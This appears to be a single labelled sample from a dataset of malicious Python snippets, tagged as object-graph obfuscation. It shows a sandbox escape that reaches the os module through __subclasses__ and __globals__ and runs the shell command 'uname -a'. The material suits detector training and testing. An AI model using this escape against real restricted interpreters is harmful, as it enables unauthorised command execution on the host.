# label: malicious; obfuscated: object_graph; evasion: object_graph
klass = ''.__class__.__mro__[1].__subclasses__()[137]
print(klass.__init__.__globals__['sys'].modules['os'].popen('uname -a').read())
